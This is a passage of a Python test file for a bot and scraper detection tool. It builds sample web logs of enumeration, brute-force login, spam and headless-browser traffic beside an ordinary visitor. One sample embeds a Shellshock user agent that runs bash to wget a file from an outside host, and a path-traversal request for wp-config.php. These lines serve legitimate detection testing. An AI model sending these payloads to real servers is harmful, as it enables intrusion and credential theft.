"""Every rule of the default pack ships a sample log and the decision it must produce.

Each sample holds the behaviour the rule names and a person browsing beside it: the rule must
fire on its actor, and the person must never be acted on. A rule added to the pack without a
sample fails `test_every_rule_has_a_sample`.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from pathlib import Path

import pytest

from captured import captured
from logbuilder import CHROME, FIREFOX, SAFARI, START, Log
from scrapeguard import clientshape
from scrapeguard.analysis import analyze
from scrapeguard.policy.load import load_policy

DATA = Path(__file__).parent / "data"
PERSON = "ip:198.51.100.20"

Sample = Callable[[Log], str]
SAMPLES: dict[str, Sample] = {}


def sample(rule_id: str) -> Callable[[Sample], Sample]:
    def register(build: Sample) -> Sample:
        SAMPLES[rule_id] = build
        return build
    return register


@sample("sequential-enumeration")
def _seq_ip(log: Log) -> str:
    for n in range(40):
        log.hit(60 + 3 * n + (n % 3), "203.0.113.7", f"/user/{100 + n}", ua=FIREFOX)
    return "ip:203.0.113.7"


@sample("sequential-enumeration-account")
def _seq_account(log: Log) -> str:
    for n in range(30):
        log.hit(60 + 10 * n, f"192.0.2.{1 + n % 25}", f"/api/users/{500 + n}", user="acc1")
    return "account:acc1"


@sample("lookup-misses")
def _misses_ip(log: Log) -> str:
    rng = random.Random(3)
    for n in range(40):
        found = n % 5 == 0
        log.hit(30 + 20 * n, "203.0.113.20", f"/api/lookup?phone=%2B1555{rng.randrange(10**7):07d}",
                status=200 if found else 404, size=350 if found else 40)
    return "ip:203.0.113.20"


@sample("lookup-misses-network")
def _misses_net(log: Log) -> str:
    rng = random.Random(4)
    for host in range(6):
        for n in range(25):
            found = n % 4 == 0
            log.hit(30 + 90 * n + host, f"198.18.7.{10 + host}",
                    f"/api/lookup?phone=%2B1555{rng.randrange(10**7):07d}",
                    status=200 if found else 404, size=350 if found else 40)
    return "net:198.18.7.0/24"


@sample("lookup-velocity")
def _lookups_ip(log: Log) -> str:
    rng = random.Random(6)
    at = 10.0
    for user_id in rng.sample(range(10_000, 99_999), 270):
        at += rng.uniform(2, 14)
        log.hit(at, "203.0.113.30", f"/user/{user_id}", ua=SAFARI)
    return "ip:203.0.113.30"


@sample("lookup-velocity-account")
def _lookups_account(log: Log) -> str:
    rng = random.Random(7)
    at = 10.0
    for n, user_id in enumerate(rng.sample(range(10_000, 99_999), 270)):
        at += rng.uniform(2, 14)
        log.hit(at, f"203.0.113.{40 + n % 10}", f"/api/users/{user_id}", user="merchant7")
    return "account:merchant7"


@sample("exposure-velocity")
def _exposure_ip(log: Log) -> str:
    for n in range(70):  # review pages: 20 reviewers each, 1,400 records in the hour
        log.hit(30 + 45 * n, "203.0.113.31", f"/product/{500 + n}/reviews", ua=SAFARI)
    return "ip:203.0.113.31"


@sample("exposure-velocity-account")
def _exposure_account(log: Log) -> str:
    for n in range(70):
        log.hit(30 + 45 * n, f"203.0.113.{50 + n % 10}", f"/product/{900 + n}/reviews",
                user="reader9")
    return "account:reader9"


@sample("exposure-daily")
def _exposure_daily_ip(log: Log) -> str:
    """An address asking a JSON endpoint for 1,100 people, one every 10 to 30 s, nothing else:
    under every hourly bar, and no account to hold to the day's."""
    rng = random.Random(9)
    for n in range(150):
        for k in range(5):
            log.hit(600 * n + 40 * k, f"10.2.{n}.2", f"/user/{rng.randrange(10**5)}")
    at = 0.0
    for user_id in rng.sample(range(100_000, 999_999), 1100):
        at += rng.uniform(10, 30)
        log.hit(at, "203.0.113.62", f"/api/users/{user_id}", size=1_500)
    return "ip:203.0.113.62"


@sample("exposure-daily-account")
def _exposure_daily(log: Log) -> str:
    rng = random.Random(8)
    for account in range(150):
        for n in range(5):
            log.hit(600 * account + 40 * n, f"10.1.{account}.2", f"/user/{rng.randrange(10**5)}",
                    user=f"shopper{account}")
    at = 0.0
    for user_id in rng.sample(range(100_000, 999_999), 2100):
        at += rng.uniform(10, 30)
        log.hit(at, "203.0.113.60", f"/user/{user_id}", user="slowpoke")
    return "account:slowpoke"


@sample("exposure-monthly-account")
def _exposure_monthly(log: Log) -> str:
    """About 1,100 new people a day, half the daily bar, for ten days: the month sees 10,000.
    Beside it, the site's other accounts, whose month sets the relative bar."""
    rng = random.Random(81)
    for account in range(150):
        for n in range(5):
            log.hit(86400 * (account % 10) + 40 * n, f"10.3.{account}.2",
                    f"/user/{rng.randrange(10**5)}", user=f"regular{account}")
    at = 0.0
    for user_id in rng.sample(range(1_000_000, 9_999_999), 10_300):
        at += rng.uniform(30, 130)
        log.hit(at, "203.0.113.61", f"/user/{user_id}", user="patient")
    return "account:patient"


@sample("new-lookups-account")
def _new_lookups(log: Log) -> str:
    """An app install on the phone lookup, 70 numbers a day, new ones every day: on its fourth
    day it has found 200 people beyond its busiest day. Beside it, the site's other accounts,
    whose windows set the relative bar."""
    rng = random.Random(82)
    for account in range(150):
        for n in range(3):
            log.hit(86400 * (account % 5) + 40 * n, f"10.4.{account}.2",
                    f"/user/{rng.randrange(10**5)}", user=f"regular{account}")
    numbers = iter(rng.sample(range(10**9, 2 * 10**9), 70 * 5))
    for day in range(5):
        at = 86400 * day + 3600.0
        for _ in range(70):
            at += rng.uniform(40, 200)
            log.hit(at, "100.64.7.9", f"/api/lookup?phone={next(numbers)}", user="pooled",
                    ua="ShopApp/5.2 (iPhone; iOS 17.3; Scale/3.00)")
    return "account:pooled"


@sample("account-many-addresses")
def _account_spread(log: Log) -> str:
    rng = random.Random(9)
    for n, user_id in enumerate(rng.sample(range(10_000, 99_999), 120)):
        log.hit(20 + 25 * n, f"192.0.2.{1 + n % 25}", f"/api/users/{user_id}", user="u_889")
    return "account:u_889"


@sample("account-rotating-networks")
def _account_rotating(log: Log) -> str:
    rng = random.Random(10)
    for n, user_id in enumerate(rng.sample(range(10_000, 99_999), 12)):
        log.hit(60 + 240 * n, f"203.0.{100 + n}.{7 + n}", f"/api/users/{user_id}", user="u_777")
    return "account:u_777"


@sample("profile-reading-speed")
def _reading_speed(log: Log) -> str:
    rng = random.Random(11)
    for n, user_id in enumerate(rng.sample(range(10_000, 99_999), 70)):
        at = 3600 + 7 * n
        log.hit(at, "203.0.113.90", f"/user/{user_id}", ua=CHROME)
        log.hit(at + 0.4, "203.0.113.90", "/static/app.js", ua=CHROME)
    return "ip:203.0.113.90"


@sample("profile-walk")
def _profile_walk(log: Log) -> str:
    """Twenty-five profiles, each opened from the one before, assets and all."""
    previous = "https://shop.example.com/user/40000"
    for n in range(25):
        at, page = 3600 + 15 * n, f"/user/{40_001 + 37 * n}"
        log.hit(at, "203.0.113.95", page, referer=previous, ua=CHROME)
        log.hit(at + 0.3, "203.0.113.95", "/static/app.js", ua=CHROME,
                referer=f"https://shop.example.com{page}")
        previous = f"https://shop.example.com{page}"
    return "ip:203.0.113.95"


@sample("spread-campaign")
def _campaign(log: Log) -> str:
    for host in range(5):
        for n in range(50):
            log.hit(30 + 70 * n + 11 * host, f"198.51.100.{100 + host}",
                    f"/user/{20_000 + 1000 * host + n}", ua=CHROME)
    return "campaign:enum:/user/{id}"


@sample("exposure-without-assets")
def _no_assets(log: Log) -> str:
    rng = random.Random(11)
    at = 10.0
    for user_id in rng.sample(range(10_000, 99_999), 320):
        at += rng.uniform(2, 9)
        log.hit(at, "198.51.100.77", f"/user/{user_id}", user="pagetool",
                referer="https://shop.example/product/17/reviews", ua=SAFARI)
    return "account:pagetool"


@sample("machine-timing")
def _machine(log: Log) -> str:
    rng = random.Random(10)
    for n, user_id in enumerate(rng.sample(range(10_000, 99_999), 70)):
        log.hit(5 + 30 * n, "203.0.113.80", f"/user/{user_id}")
    return "ip:203.0.113.80"


@sample("trap-hit")
def _trap(log: Log) -> str:
    log.hit(50, "203.0.113.90", "/trap/contact-list")
    return "ip:203.0.113.90"


@sample("attack-payload")
def _attack(log: Log) -> str:
    log.hit(50, "203.0.113.95", "/wp-admin/admin-ajax.php?action=revslider_show_image"
            "&img=..%2Fwp-config.php", status=200, size=3100)
    # The payload in a header rather than the path: Shellshock in the user agent.
    log.hit(55, "203.0.113.96", "/cgi-bin/status", status=404, size=150,
            ua="() { :; }; /bin/bash -c 'wget http://198.51.100.66/x'")
    # An old browser beside it sends a relative link's dot-segment above the root as it is.
    log.hit(70, PERSON[3:], "/../Clipart/logo.jpg", status=400, size=300,
            referer="https://shop.example/",
            ua="Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0)")
    return "ip:203.0.113.95"


@sample("login-bruteforce")
def _login_bruteforce(log: Log) -> str:
    for n in range(40):
        log.hit(60 + 25 * n, "203.0.113.97", "/wp-login.php", method="POST", size=3400)
    for n in range(3):  # the person mistypes a password twice, then gets in
        log.hit(200 + 20 * n, PERSON[3:], "/wp-login.php", method="POST",
                status=302 if n == 2 else 200, referer="https://shop.example/wp-login.php")
    return "ip:203.0.113.97"


@sample("login-refused")
def _login_refused(log: Log) -> str:
    # The site serves its login form to the person, and refuses it to the scanner.
    log.hit(30, PERSON[3:], "/wp-login.php", referer="https://shop.example/", size=4200)
    log.hit(45, PERSON[3:], "/wp-login.php", method="POST", status=200, size=4300,
            referer="https://shop.example/wp-login.php")  # a wrong password: the form again
    for n, ua in enumerate([FIREFOX, SAFARI]):
        log.hit(60 + 300 * n, "203.0.113.101", "/wp-login.php", status=403, size=300, ua=ua)
    return "ip:203.0.113.101"


def test_a_login_answered_407_by_the_site_is_refused(tmp_path: Path) -> None:
    """As on a real blog, whose security answered `PHP/5.x` agents 407 (Proxy Authentication
    Required, which a site's own server sends only as a deny code it chose): the login form
    asked for twice under `PHP/5.2.17` is refused, as with 403. A person's wrong password
    (the form again, 200) and a login that needs the site's own HTTP authentication (401) are
    not refusals."""
    log = Log()
    for at in (60, 514):
        log.hit(at, "203.0.113.102", "/wp-login.php", status=407, size=415, ua="PHP/5.2.17")
    log.hit(30, "198.51.100.36", "/wp-login.php", referer="https://blog.example/", size=4200)
    log.hit(45, "198.51.100.36", "/wp-login.php", method="POST", status=200, size=4300,
            referer="https://blog.example/wp-login.php")
    log.hit(50, "198.51.100.37", "/login", status=401, size=300)
    decided = _decided(log, tmp_path, "refused-407.log")
    assert "login-refused" in decided["ip:203.0.113.102"].rules, decided  # type: ignore[attr-defined]
    assert not {"ip:198.51.100.36", "ip:198.51.100.37"} & set(decided), decided


@sample("login-without-form")
def _login_without_form(log: Log) -> str:
    for n in range(4):  # passwords posted straight at the form, never loaded
        log.hit(60 + 400 * n, "203.0.113.102", "/wp-login.php", method="POST", size=4300)
    # The person's browser withholds referers: a mistyped password, then the right one.
    log.hit(100, PERSON[3:], "/wp-login.php", method="POST", status=200, size=4300)
    log.hit(120, PERSON[3:], "/wp-login.php", method="POST", status=302, size=0)
    return "ip:203.0.113.102"


@sample("xmlrpc-browser-agent")
def _xmlrpc_browser(log: Log) -> str:
    for n in range(6):
        log.hit(60 + 5 * n, "203.0.113.103", "/xmlrpc.php", method="POST", size=400, ua=CHROME)
    for n in range(8):  # the person's WordPress app publishing over XML-RPC
        log.hit(200 + 10 * n, PERSON[3:], "/xmlrpc.php", method="POST", size=900,
                ua="wp-android/24.1 (Android 14)")
    return "ip:203.0.113.103"


@sample("xmlrpc-browser-agent-daily")
def _xmlrpc_browser_daily(log: Log) -> str:
    # A slow guesser: one multicall every few hours, a new browser name each time.
    for n, ua in enumerate([CHROME, "Opera/9.80 (J2ME/MIDP; Opera Mini/5.0.3521/18.684; U; en) "
                            "Presto/2.4.15", "Opera/6.05 (Windows 2000; U) [en]"]):
        log.hit(60 + 4 * 3600 * n, "203.0.113.107", "/xmlrpc.php", method="POST", size=449,
                ua=ua, referer="http://shop.example/xmlrpc.php")
    for n in range(8):  # the person's WordPress app publishing over XML-RPC all day
        log.hit(200 + 3000 * n, PERSON[3:], "/xmlrpc.php", method="POST", size=900,
                ua="wp-android/24.1 (Android 14)")
    return "ip:203.0.113.107"


@sample("known-target-probe")
def _known_target(log: Log) -> str:
    log.hit(60, "203.0.113.104", "/blog/wp-admin/", status=404, size=150, ua="-")
    # The site has /wp-admin/: its editor is served it, then refused it once (a security
    # plugin); and a link on the site leads to an /admin.php the site no longer has.
    log.hit(20, PERSON[3:], "/wp-admin/", size=9000)
    log.hit(90, PERSON[3:], "/wp-admin/", status=403, size=300)
    log.hit(95, PERSON[3:], "/admin.php", status=404, size=150,
            referer="https://shop.example/about")
    log.hit(130, PERSON[3:], "/admin.php", status=404, size=150)
    return "ip:203.0.113.104"


@sample("target-guessing")
def _target_guessing(log: Log) -> str:
    # As on a real blog: where might WordPress be installed? Every guess is redirected (the
    # site sends unknown directories to its canonical host), none refused, one every minutes.
    for n, prefix in enumerate(["/test", "/wordpress", "/blog", "/wp", "/old"]):
        log.hit(60 + 400 * n, "203.0.113.106", f"{prefix}/wp-admin/", status=301, size=385,
                ua="-")
    # The site has /wp-admin/: its editor is sent to log in, then served it; the person
    # types the address of an admin panel the site does not have, which redirects too.
    log.hit(20, PERSON[3:], "/wp-admin/", status=302, size=0)
    log.hit(25, PERSON[3:], "/wp-admin/", size=9000)
    log.hit(900, PERSON[3:], "/wp-admin/", status=302, size=0)
    log.hit(950, PERSON[3:], "/administrator/", status=301, size=0)
    return "ip:203.0.113.106"


@sample("missing-scripts")
def _missing_scripts(log: Log) -> str:
    for n, name in enumerate(["init_includes", "robots", "tmp", "wp-conf1g"]):
        log.hit(60 + 3 * n, "203.0.113.105", f"/{name}.php", status=404, size=150)
    # The person follows a dead link to a script and mistypes another.
    log.hit(140, PERSON[3:], "/contact.php", status=404, size=150,
            referer="https://shop.example/about")
    log.hit(150, PERSON[3:], "/serch.php", status=404, size=150)
    return "ip:203.0.113.105"


@sample("library-mirror")
def _library_mirror(log: Log) -> str:
    """`wget -r`: the home page, robots.txt, then every page and image it links, in seconds."""
    wget = "Wget/1.11.4 Red Hat modified"
    log.hit(60, "203.0.113.106", "/", ua=wget, size=14_000)
    log.hit(62, "203.0.113.106", "/robots.txt", status=404, size=150, ua=wget)
    for n in range(10):
        log.hit(63 + 0.1 * n, "203.0.113.106", f"/Sub/page-{n}.html", ua=wget,
                referer="http://shop.example/")
        log.hit(63.05 + 0.1 * n, "203.0.113.106", f"/Buttons/b{n}.jpg", ua=wget,
                referer="http://shop.example/")
    return "ip:203.0.113.106"


@sample("author-enumeration")
def _author_enumeration(log: Log) -> str:
    # As on a real blog: ids 1 and 2 in two seconds, no user agent; the scanner stops at the
    # first id that is nobody (404), so a one-author blog shows two ids, never three.
    log.hit(60, "203.0.113.99", "/?author=1", status=301, size=0, ua="-")
    log.hit(62, "203.0.113.99", "/?author=2", status=404, size=8000, ua="-")
    # A reader on a blog with plain permalinks follows three authors' links.
    for n in range(1, 4):
        log.hit(100 + 20 * n, PERSON[3:], f"/?author={n}", size=24_000,
                referer=f"https://shop.example/?p={n}")
    return "ip:203.0.113.99"


def readers(log: Log, count: int = 25, *, assets: bool = True) -> None:
    """Visitors who each read a post with its assets (`assets=False`: a site whose assets
    a CDN serves, so the origin sees the pages and the icon only)."""
    for n in range(count):
        ip, at = f"198.51.100.{100 + n}", 5.0 + 20 * n
        log.hit(at, ip, "/2016/02/a-post/", referer="https://www.google.com/", size=24_000)
        for k, asset in enumerate(["/wp-content/themes/t/style.css", "/wp-includes/js/jquery.js",
                                   "/wp-content/uploads/2016/02/photo.jpg"]):
            if assets:
                log.hit(at + 0.2 + 0.1 * k, ip, asset, referer="https://blog.example/2016/02/a-post/")
        log.hit(at + 0.6, ip, "/favicon.ico")


FORM_BOT = "Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.17"


def form_spam(log: Log) -> str:
    """A comment bot: the post, then its comment handler two seconds later, no assets; then a
    registration bot opening the sign-up form as on a real blog, claiming the site's front
    page as its referer, a page it never rendered."""
    log.hit(700, "203.0.113.150", "/2016/02/a-post/", ua=FORM_BOT, size=24_000)
    log.hit(702, "203.0.113.150", "/wp-comments-post.php", method="POST", status=302, size=0,
            referer="http://blog.example/2016/02/a-post/", ua=FORM_BOT)
    log.hit(710, "203.0.113.151", "/wp-login.php?action=register", status=302, size=0,
            referer="http://blog.example/", ua=FORM_BOT)
    return "ip:203.0.113.150"


@sample("form-without-assets")
def _form_without_assets(log: Log) -> str:
    readers(log)
    return form_spam(log)


@sample("pages-without-assets")
def _pages_without_assets(log: Log) -> str:
    readers(log)
    # A program under Chrome's name, at a reader's pace: a post a minute, no asset.
    for n in range(60):
        log.hit(700 + 60 * n, "203.0.113.163", f"/2014/{1 + n % 12:02d}/post-{n}/", size=24_000)
    # The person's warm cache keeps the theme, but each new post's photo is loaded.
    for n in range(45):
        log.hit(800 + 50 * n, PERSON[3:], f"/2015/{1 + n % 12:02d}/post-{n}/", size=24_000,
                referer="https://blog.example/")
        if n % 3 == 0:
            log.hit(801 + 50 * n, PERSON[3:], f"/wp-content/uploads/2015/photo-{n}.jpg",
                    referer=f"https://blog.example/2015/{1 + n % 12:02d}/post-{n}/")
    return "ip:203.0.113.163"


@sample("pages-without-assets-account")
def _pages_without_assets_account(log: Log) -> str:
    readers(log)
    rng = random.Random(12)
    # A tool logged in as a merchant, paced like one: a reviewer's profile every three to
    # five minutes through a working day, under every hourly bar; never an asset.
    at = 3600.0
    for user_id in rng.sample(range(10_000, 99_999), 120):
        at += rng.uniform(180, 300)
        log.hit(at, "198.51.100.78", f"/user/{user_id}", user="merchant-tool", size=21_000,
                referer="https://shop.example/product/17/reviews?page=2")
    # A customer-service agent reads more people in the same day, in a browser: a warm cache
    # keeps the bundles, but each person's picture is new.
    at = 3700.0
    for n, user_id in enumerate(rng.sample(range(10_000, 99_999), 140)):
        at += rng.uniform(60, 200)
        log.hit(at, PERSON[3:], f"/user/{user_id}", user="agent-4", size=21_000)
        if n % 4 == 0:
            log.hit(at + 0.3, PERSON[3:], f"/img/u/{user_id}.jpg", user="agent-4",
                    referer=f"https://shop.example/user/{user_id}")
    return "account:merchant-tool"


@sample("login-agent-rotation")
def _login_agent_rotation(log: Log) -> str:
    readers(log)
    # As on a real blog: the login form every few minutes, a new agent each time, answered 200.
    for n, ua in enumerate(["Opera/9.18 (X11; Linux i686; U; en-US) Presto/2.9.180 Version/11.00",
                            "Mozilla/5.0(X11; Linux i686) AppleWebKit/5332 (KHTML, like Gecko) "
                            "Chrome/15.0.803.0 Safari/5332", FIREFOX, SAFARI]):
        log.hit(700 + 380 * n, "203.0.113.160", "/wp-login.php", size=5196, ua=ua)
    log_in(log, PERSON[3:], 800)
    return "ip:203.0.113.160"


FEED_AGENTS = (
    "Mozilla/5.0 (Windows NT 6.2; rv:22.0) Gecko/20130405 Firefox/22.0",
    "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/536.3 (KHTML, like Gecko) Chrome/19.0.1061.1 "
    "Safari/536.3",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)",
    "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_6_3; zh-cn) AppleWebKit/533.16 (KHTML, like "
    "Gecko) Version/5.0 Safari/533.16",
    FIREFOX, SAFARI,
)


@sample("feed-agent-rotation")
def _feed_agent_rotation(log: Log) -> str:
    readers(log)
    # As on a real blog: the feed every six hours from a hosting address, a new browser's
    # name each time, nothing else.
    for n, ua in enumerate(FEED_AGENTS):
        log.hit(700 + 6 * 3600 * n, "203.0.113.170", "/feed/", size=179_372, ua=ua)
    return "ip:203.0.113.170"


@sample("referral-agent-rotation")
def _referral_agent_rotation(log: Log) -> str:
    readers(log)
    # As on a real blog: the home page every few hours for days, each time "from" a spam
    # site and under another browser's name, nothing loaded.
    for n, ua in enumerate(FEED_AGENTS[:5]):
        log.hit(700 + 5 * 3600 * n, "203.0.113.171", "/", size=129_444, ua=ua,
                referer=f"http://cheap-pills-{n % 2}.example/")
    return "ip:203.0.113.171"


def test_arrivals_by_browsers_that_load_assets_or_keep_their_names_are_left_alone(
        tmp_path: Path) -> None:
    """The near miss of referral-agent-rotation: four people behind one office address who
    each arrive from a search engine under their own browser and load the page's assets, and
    a returning reader whose cache keeps the theme, arriving from links eight times in a
    week under one browser."""
    log = Log()
    readers(log)
    for n, ua in enumerate(FEED_AGENTS[:4]):
        at = 700 + 3600 * n
        log.hit(at, "198.51.100.72", "/2016/02/a-post/", size=24_000, ua=ua,
                referer="https://www.google.com/")
        log.hit(at + 0.3, "198.51.100.72", "/wp-content/themes/t/style.css", ua=ua,
                referer="https://blog.example/2016/02/a-post/")
    for n in range(8):
        log.hit(800 + 20_000 * n, "198.51.100.73", f"/2015/{1 + n:02d}/post-{n}/", size=24_000,
                referer=f"https://news-{n % 3}.example/links")
    decided = _decided(log, tmp_path, "arrivals.log")
    assert not {"ip:198.51.100.72", "ip:198.51.100.73"} & set(decided), decided


def log_in(log: Log, ip: str, at: float, *, referer: bool = True, ua: str = CHROME) -> None:
    """A person logs in: the form with its styles, a wrong password, then the right one."""
    log.hit(at, ip, "/wp-login.php", size=4200, ua=ua)
    log.hit(at + 0.3, ip, "/wp-admin/css/login.min.css", ua=ua,
            referer="https://blog.example/wp-login.php")
    for n, status in enumerate((200, 302)):
        log.hit(at + 20 + 15 * n, ip, "/wp-login.php", method="POST", status=status, size=4300,
                ua=ua, referer="https://blog.example/wp-login.php" if referer else "-")


SLURP = "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)"


def test_a_crawler_that_reads_robots_txt_is_not_throttled_for_its_pace(tmp_path: Path) -> None:
    """As Yahoo's Slurp on a real blog: robots.txt, then seventy posts a minute under its
    declared agent. The site's rules were read (a `Crawl-delay` there paces it); the same
    crawl by an agent that skipped robots.txt, or one that read it and then crawls under a
    browser's name, is throttled."""
    log = Log()
    for ip, ua in (("203.0.113.180", SLURP), ("203.0.113.181", SLURP),
                   ("203.0.113.182", CHROME)):
        if ip != "203.0.113.181":
            log.hit(40, ip, "/robots.txt", size=300, ua=SLURP)
        for n in range(100):
            log.hit(50 + 0.6 * n, ip, f"/2013/05/post-{n:02d}/", size=24_000, ua=ua)
    decided = _decided(log, tmp_path, "polite.log")
    assert "ip:203.0.113.180" not in decided, decided
    assert "fast-crawl" in decided["ip:203.0.113.181"].rules  # type: ignore[attr-defined]
    assert "fast-crawl" in decided["ip:203.0.113.182"].rules  # type: ignore[attr-defined]


def test_a_password_posted_blind_without_assets_is_a_blind_form(tmp_path: Path) -> None:
    """The one-attempt brute forcer of a real blog: the login form under a forged referer,
    a password two seconds later without one, nothing loaded; another posts outright. Each
    is one blind post, under `login-without-form`'s three, but a form reached without its
    assets. A person whose browser withholds referers loaded the form's styles: spared."""
    log = Log()
    readers(log)
    log.hit(700, "203.0.113.161", "/wp-login.php", size=3198, ua=FIREFOX,
            referer="http://blog.example/wp-admin")
    log.hit(702, "203.0.113.161", "/wp-login.php", method="POST", status=500, size=4010,
            ua=FIREFOX)
    log.hit(900, "203.0.113.162", "/wp-login.php", method="POST", status=500, size=4000)
    log_in(log, "198.51.100.30", 800, referer=False)
    log_in(log, "198.51.100.31", 1000, ua=SAFARI)
    decided = _decided(log, tmp_path, "blind-login.log")
    for bot in ("ip:203.0.113.161", "ip:203.0.113.162"):
        assert "form-without-assets" in decided[bot].rules, decided  # type: ignore[attr-defined]
    assert not {"ip:198.51.100.30", "ip:198.51.100.31"} & set(decided), decided


PINGBACK_BOT = "PHP/5.3.95"
JETPACK = "Jetpack by WordPress.com"


def pingback_spam(log: Log) -> str:
    """As on a real blog: a post fetched under a browser's name with the site's root as
    referer, then an XML-RPC call five seconds later under a made-up PHP version, naming the
    same root as its referer; nothing loaded."""
    log.hit(700, "203.0.113.165", "/2015/05/a-post/", size=54_537, ua=FIREFOX,
            referer="http://blog.example/")
    log.hit(705, "203.0.113.165", "/xmlrpc.php", method="POST", status=407, size=415,
            ua=PINGBACK_BOT, referer="http://blog.example/")
    return "ip:203.0.113.165"


def test_an_xmlrpc_call_with_a_referer_is_a_blind_form(tmp_path: Path) -> None:
    """A pingback is a comment posted through XML-RPC. The apps that call it (Jetpack, the
    mobile apps, another blog's genuine pingback under `WordPress/…`) send no referer; a
    spammer that names a page as its referer forges one, and, loading none of the page's
    assets, reached a comment form blind. The page's own script calling XML-RPC from a
    rendered page (its assets loaded) is spared."""
    log = Log()
    readers(log)
    bot = pingback_spam(log)
    for n in range(6):
        log.hit(720 + 300 * n, "192.0.2.33", "/xmlrpc.php", method="POST", size=900, ua=JETPACK)
    log.hit(730, "198.51.100.34", "/2015/05/a-post/", size=54_537,
            ua="WordPress/4.4.2; http://another-blog.example")
    log.hit(733, "198.51.100.34", "/xmlrpc.php", method="POST", size=400,
            ua="WordPress/4.4.2; http://another-blog.example")
    log.hit(740, "198.51.100.35", "/2015/05/a-post/", size=54_537, referer="https://www.google.com/")
    log.hit(740.3, "198.51.100.35", "/wp-content/themes/t/style.css",
            referer="https://blog.example/2015/05/a-post/")
    log.hit(760, "198.51.100.35", "/xmlrpc.php", method="POST", size=400,
            referer="https://blog.example/2015/05/a-post/")
    decided = _decided(log, tmp_path, "pingback.log")
    assert "form-without-assets" in decided[bot].rules, decided  # type: ignore[attr-defined]
    assert not {"ip:192.0.2.33", "ip:198.51.100.34", "ip:198.51.100.35"} & set(decided), decided


def test_feeds_polled_by_browsers_that_keep_their_names_are_left_alone(tmp_path: Path) -> None:
    """The near miss of feed-agent-rotation: four people behind one office address who open
    the feed from the blog's page (its assets loaded), and, on another address, four browsers
    that each poll the feed every hour under their own name (a browser's live bookmark): four
    agents over some thirty fetches is four pollers, not one poller changing names."""
    log = Log()
    readers(log)
    for n, ua in enumerate(FEED_AGENTS[:4]):
        at = 700 + 3600 * n
        log.hit(at, "198.51.100.70", "/2016/02/a-post/", size=24_000, ua=ua,
                referer="https://www.google.com/")
        log.hit(at + 0.3, "198.51.100.70", "/wp-content/themes/t/style.css", ua=ua,
                referer="https://blog.example/2016/02/a-post/")
        log.hit(at + 20, "198.51.100.70", "/feed/", size=179_372, ua=ua,
                referer="https://blog.example/2016/02/a-post/")
    for n, ua in enumerate(FEED_AGENTS[:4]):
        for hour in range(8):
            log.hit(700 + 5400 * n + 3600 * hour + 7 * n, "198.51.100.71", "/feed/",
                    size=179_372, ua=ua)
    decided = _decided(log, tmp_path, "feed-readers.log")
    assert not {"ip:198.51.100.70", "ip:198.51.100.71"} & set(decided), decided


SPAM_HOST = "seo-traffic.example"


def referer_spam(log: Log) -> str:
    """Bots advertising a site: six addresses on six networks each ask for the home page
    once, twenty seconds apart, with the site's address as referer, and load nothing else:
    none comes back, so only the time their pages have had says they are not browsers."""
    for n in range(6):
        ip = f"{192 + n}.0.2.{40 + n}"  # six different networks
        log.hit(900 + 20 * n, ip, "/", referer=f"http://{SPAM_HOST}/", ua=FORM_BOT,
                size=24_000)
    return f"campaign:ref:{SPAM_HOST}"


@sample("referer-spam")
def _referer_spam(log: Log) -> str:
    readers(log)
    return referer_spam(log)


@sample("library-page-walk")
def _library_page_walk(log: Log) -> str:
    for n in range(30):  # one archive page every twenty minutes: slow, but every page
        log.hit(60 + 1200 * n, "203.0.113.160", f"/2015/{1 + n % 12:02d}/post-{n}/",
                ua="Java/1.8.0_71", size=24_000)
    return "ip:203.0.113.160"


HEADLESS = ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "HeadlessChrome/120.0.0.0 Safari/537.36")


@sample("automation-tool")
def _tool(log: Log) -> str:
    for n in range(3):
        log.hit(50 + n, "203.0.113.100", f"/page-{n}", ua=HEADLESS)
    return "ip:203.0.113.100"


def test_a_headless_page_view_is_left_alone(tmp_path: Path) -> None:
    """The near miss of automation-tool: a link-preview service renders a shared link's home
    page with its icons (WordPress.com's mShots on a real log), and is spared; a declared
    scanner is acted on for two requests of anything."""
    log = Log()
    preview = HEADLESS + " WordPress.com mShots"
    log.hit(40, "203.0.113.101", "/", ua=preview, size=1100)
    for n, icon in enumerate(["blank", "unknown", "folder", "text", "layout", "image2"]):
        log.hit(40.2 + 0.1 * n, "203.0.113.101", f"/icons/{icon}.gif", ua=preview, size=500,
                referer="http://blog.example/")
    for n in range(2):
        log.hit(60 + n, "203.0.113.102", "/", ua="Mozilla/5.0 (compatible; Nmap Scripting "
                "Engine; https://nmap.org/book/nse.html)")
    decided = _decided(log, tmp_path, "headless.log")
    assert "ip:203.0.113.101" not in decided, decided
    assert "automation-tool" in decided["ip:203.0.113.102"].rules  # type: ignore[attr-defined]


@sample("catalogue-harvest")
def _catalogue(log: Log) -> str:
    for n in range(120):  # one product page after another, no assets, paced like a reader
        log.hit(40 + 25 * n, "203.0.113.140", f"/product/{2000 + 7 * n}", size=15_000)
    return "ip:203.0.113.140"


@sample("browser-claim-foreign-headers")
def _foreign_headers(log: Log) -> str:
    """python-requests behind Chrome's user agent, as captured: one page is enough."""
    fleet = captured("python-requests-chrome-ua")
    log.hit(400, "203.0.113.180", "/about", ua=fleet.ua, hdr=fleet.shape())
    return "ip:203.0.113.180"


@sample("browser-claim-foreign-tls")
def _foreign_tls(log: Log) -> str:
    """Chromium's own headers over python-requests' TLS hello: copied headers, not the stack."""
    chromium, library = captured("chromium"), captured("python-requests")
    log.hit(420, "203.0.113.181", "/about", ua=chromium.ua, hdr=chromium.shape(),
            tls=library.ja4)
    return "ip:203.0.113.181"


def stack_fleet(log: Log, *, tls: bool) -> str:
    """One python-requests stack behind Chrome's agent on 30 addresses in 6 networks, a
    request or two each: under every per-address bar but one, and one shared stack."""
    fleet = captured("python-requests-chrome-ua")
    for n in range(30):
        ip = f"100.{64 + n % 6}.{n}.9"
        for k in range(1 + n % 2):
            log.hit(500 + 11 * n + 3 * k, ip, f"/product/{900 + n}", ua=fleet.ua,
                    hdr=None if tls else fleet.shape(), tls=fleet.ja4 if tls else None)
    if tls:
        return f"tls:chromium/{fleet.ja4}"
